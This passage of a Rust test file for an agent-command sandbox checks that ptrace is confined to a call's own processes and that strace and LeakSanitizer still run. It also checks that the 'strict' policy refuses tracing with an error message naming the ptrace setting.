    while sleeper.is_empty() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
        sleeper = crate::common::processes_with(&token);
    }
    let outside = sleeper
        .first()
        .copied()
        .unwrap_or(std::process::id() as i32);
    let run = sb.exec(&[], &["python3", "trace.py", &outside.to_string()]);
    let _ = other.kill();
    let _ = other.wait();
    assert_eq!(
        run.stdout.trim(),
        format!(
            "own=0 reaper={} outside={} mem={}",
            libc::EPERM,
            libc::ESRCH,
            libc::EACCES
        ),
        "{run:?}"
    );
    // strace -f and an ASan build's LeakSanitizer, as an agent runs them.
    for (tool, argv) in [
        ("strace", vec!["strace", "-f", "-o", "/dev/null", "true"]),
        ("gcc", vec!["gcc", "--version"]),
    ] {
        if std::process::Command::new(tool)
            .arg("--version")
            .output()
            .map_or(true, |o| !o.status.success())
        {
            crate::common::skip_msg(
                &format!("{test} ({tool} part)"),
                &format!("{tool} is not installed"),
            );
            continue;
        }
        let run = sb.exec(&[], &argv);
        assert_eq!(run.code(), 0, "{tool}: {run:?}");
    }
    std::fs::write(
        sb.ws().join("leak.c"),
        "#include <stdlib.h>\nvoid *kept;\nint main(void) { kept = malloc(7); kept = 0; return 0; }\n",
    )
    .unwrap();
    let built = sb.exec(
        &[],
        &[
            "sh",
            "-c",
            "gcc -g -fsanitize=address leak.c -o leak && ./leak",
        ],
    );
    assert!(
        built
            .stderr
            .contains("LeakSanitizer: detected memory leaks")
            && !built
                .stderr
                .contains("LeakSanitizer has encountered a fatal error"),
        "LeakSanitizer did not run: {built:?}"
    );
}

/// Issue 33, item 1: `strict` (`[sandbox] ptrace = "none"`) refuses tracing even of a call's
/// own child, and a tracer's failure names the field and how to opt in.
#[cordon_test::test]
fn strict_refuses_tracing_and_says_how_to_opt_in() {
    let test = "strict_refuses_tracing_and_says_how_to_opt_in";
    if skip(test, Need::Namespaces) {
        return;
    }
    let sb = Sandbox::new();
    std::fs::write(sb.ws().join("trace.py"), TRACE_SCRIPT).unwrap();
    let run = sb.exec(
        &["--policy", "strict"],
        &["/usr/bin/python3", "trace.py", "1"],
    );
    assert!(
        run.stdout.starts_with(&format!("own={} ", libc::EPERM)),
        "strict let a call trace its own child: {run:?}"
    );
    if !std::path::Path::new("/usr/bin/strace").exists() {
        crate::common::skip_msg(&format!("{test} (strace part)"), "strace is not installed");
        return;
    }
    let mut s = crate::stdio_server::StdioServer::start(sb.ws(), &["--policy", "strict"], "", &[]);
    let r = s.call(
        "shell_exec",
        serde_json::json!({"command": "strace -o /dev/null true"}),
    );
    let message = crate::stdio_server::structured(&r)["error"]["message"]
        .as_str()
        .unwrap_or("")
        .to_owned();
    assert!(
        message.contains("ptrace = \"none\"") && message.contains("ptrace = \"call\""),
        "{r}"
    );
}
